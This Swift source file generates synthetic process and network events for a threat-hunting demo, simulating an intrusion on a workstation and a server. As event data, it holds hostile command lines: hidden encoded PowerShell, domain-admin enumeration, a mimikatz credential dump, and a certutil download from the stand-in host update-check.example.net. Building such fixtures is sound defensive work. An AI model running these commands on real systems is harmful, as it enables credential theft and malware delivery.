import OpenMTPModels

/// The hunting events of ``DemoScenario``: process and network activity of the two demo devices.
enum DemoEvents {
    private struct Process {
        let minutesAgo: Int64
        let device: DemoScenario.Device
        let account: String
        let fileName: String
        let folder: String
        let commandLine: String
        let parent: String
        let sha1: String
    }

    static func processEvents(now: Timestamp, workstation ws: DemoScenario.Device, server srv: DemoScenario.Device) -> [String] {
        let processes = [
            Process(
                minutesAgo: 200,
                device: ws,
                account: "jdoe",
                fileName: "outlook.exe",
                folder: #"C:\Program Files\Microsoft Office\root\Office16"#,
                commandLine: #""OUTLOOK.EXE" /recycle"#,
                parent: "explorer.exe",
                sha1: "a4c1e2d3f4b5a6978877665544332211ffeeddcc"
            ),
            Process(
                minutesAgo: 191,
                device: ws,
                account: "jdoe",
                fileName: "cmd.exe",
                folder: #"C:\Windows\System32"#,
                commandLine: #"cmd.exe /c powershell.exe -nop -w hidden -enc SQBFAFgA"#,
                parent: "winword.exe",
                sha1: "ded8fd7f36417f66eb6ada10e0c0d7c0022986e9"
            ),
            Process(
                minutesAgo: 190,
                device: ws,
                account: "jdoe",
                fileName: "powershell.exe",
                folder: #"C:\Windows\System32\WindowsPowerShell\v1.0"#,
                commandLine: "powershell.exe -nop -w hidden -enc SQBFAFgA",
                parent: "cmd.exe",
                sha1: "6cbce4a295c163791b60fc23d285e6d84f28ee4c"
            ),
            Process(
                minutesAgo: 188,
                device: ws,
                account: "jdoe",
                fileName: "whoami.exe",
                folder: #"C:\Windows\System32"#,
                commandLine: "whoami.exe /all",
                parent: "powershell.exe",
                sha1: "2ba5bbe1f4b6ec6d0e1ffc19a0b2e1cb44d1a0a6"
            ),
            Process(
                minutesAgo: 187,
                device: ws,
                account: "jdoe",
                fileName: "net.exe",
                folder: #"C:\Windows\System32"#,
                commandLine: #"net.exe group "Domain Admins" /domain"#,
                parent: "powershell.exe",
                sha1: "9f2e1c0a6b1ed2f0a7f5a1a4c6c0c7d6e5f4a3b2"
            ),
            Process(
                minutesAgo: 185,
                device: ws,
                account: "jdoe",
                fileName: "mimikatz.exe",
                folder: #"C:\Users\jdoe\Downloads"#,
                commandLine: #"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
                parent: "powershell.exe",
                sha1: "d1f2b0b8a1c53e1e5ea0f3a6c4b7e8d9a0b1c2d3"
            ),
            Process(
                minutesAgo: 120,
                device: srv,
                account: "svc-app",
                fileName: "w3wp.exe",
                folder: #"C:\Windows\System32\inetsrv"#,
                commandLine: "w3wp.exe -ap DefaultAppPool",
                parent: "svchost.exe",
                sha1: "0c9a5c3d4e5f60718293a4b5c6d7e8f901a2b3c4"
            ),
            Process(
                minutesAgo: 96,
                device: srv,
                account: "svc-app",
                fileName: "rundll32.exe",
                folder: #"C:\Windows\System32"#,
                commandLine: #"rundll32.exe C:\ProgramData\upd.dll,Start"#,
                parent: "w3wp.exe",
                sha1: "de4b5c6a7f8e9d0c1b2a3f4e5d6c7b8a9f0e1d2c"
            ),
            Process(
                minutesAgo: 90,
                device: srv,
                account: "svc-app",
                fileName: "certutil.exe",
                folder: #"C:\Windows\System32"#,
                commandLine: #"certutil.exe -urlcache -split -f http://update-check.example.net/p.bin C:\ProgramData\p.bin"#,
                parent: "rundll32.exe",
                sha1: "4b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c"
            ),
            Process(
                minutesAgo: 30,
                device: ws,
                account: "jdoe",
                fileName: "msedge.exe",
                folder: #"C:\Program Files (x86)\Microsoft\Edge\Application"#,
                commandLine: #""msedge.exe" --single-argument https://portal.contoso.test/"#,
                parent: "explorer.exe",
                sha1: "7e1d2c3b4a5f6e7d8c9b0a1f2e3d4c5b6a7f8e9d"
            ),
        ]
        return processes.enumerated().map { index, p in
            let time = now.adding(seconds: -p.minutesAgo * 60)
            return JSONValue.object([
                ("Timestamp", .string(time.iso8601)),
                ("DeviceId", .string(p.device.id)),
                ("DeviceName", .string(p.device.name)),
                ("ActionType", .string("ProcessCreated")),
                ("FileName", .string(p.fileName)),
                ("FolderPath", .string(p.folder + "\\" + p.fileName)),
                ("SHA1", .string(p.sha1)),
                ("ProcessId", .int(4_000 + Int64(index) * 137)),
                ("ProcessCommandLine", .string(p.commandLine)),
                ("ProcessCreationTime", .string(time.iso8601)),
                ("AccountDomain", .string("contoso")),
                ("AccountName", .string(p.account)),
                ("AccountUpn", .string("\(p.account)@contoso.test")),
                ("InitiatingProcessFileName", .string(p.parent)),
                ("InitiatingProcessAccountName", .string(p.account)),
                ("ReportId", .int(10_000 + Int64(index))),
                ("IsProcessRemoteSession", .bool(false)),
            ]).serialized
        }
    }

    static func networkEvents(now: Timestamp, workstation ws: DemoScenario.Device, server srv: DemoScenario.Device) -> [String] {
        let connections: [(Int64, DemoScenario.Device, String, String, Int64, String, String)] = [
            (199, ws, "ConnectionSuccess", "52.96.10.20", 443, "outlook.office365.com", "outlook.exe"),
            (189, ws, "ConnectionSuccess", "198.51.100.7", 443, "cdn.example.org", "powershell.exe"),
            (184, ws, "ConnectionFailed", "10.0.0.10", 445, "", "mimikatz.exe"),
            (95, srv, "ConnectionSuccess", "203.0.113.45", 80, "update-check.example.net", "rundll32.exe"),
            (90, srv, "ConnectionSuccess", "203.0.113.45", 80, "update-check.example.net", "certutil.exe"),
            (65, srv, "ConnectionSuccess", "203.0.113.45", 80, "update-check.example.net", "rundll32.exe"),
            (29, ws, "ConnectionSuccess", "10.0.0.5", 443, "portal.contoso.test", "msedge.exe"),
            (5, srv, "InboundConnectionAccepted", "192.0.2.10", 443, "", "w3wp.exe"),
        ]
        return connections.enumerated().map { index, c in
            let (minutesAgo, device, action, remoteIP, port, url, process) = c
            return JSONValue.object([
                ("Timestamp", .string(now.adding(seconds: -minutesAgo * 60).iso8601)),
                ("DeviceId", .string(device.id)),
                ("DeviceName", .string(device.name)),
                ("ActionType", .string(action)),
                ("RemoteIP", .string(remoteIP)),
                ("RemotePort", .int(port)),
                ("RemoteUrl", .string(url)),
                ("LocalIP", .string(device.id == ws.id ? "10.0.1.42" : "10.0.2.11")),
                ("LocalPort", .int(49_152 + Int64(index))),
                ("Protocol", .string("Tcp")),
                ("RemoteIPType", .string(remoteIP.hasPrefix("10.") ? "Private" : "Public")),
                ("InitiatingProcessFileName", .string(process)),
                ("ReportId", .int(20_000 + Int64(index))),
            ]).serialized
        }
    }
}
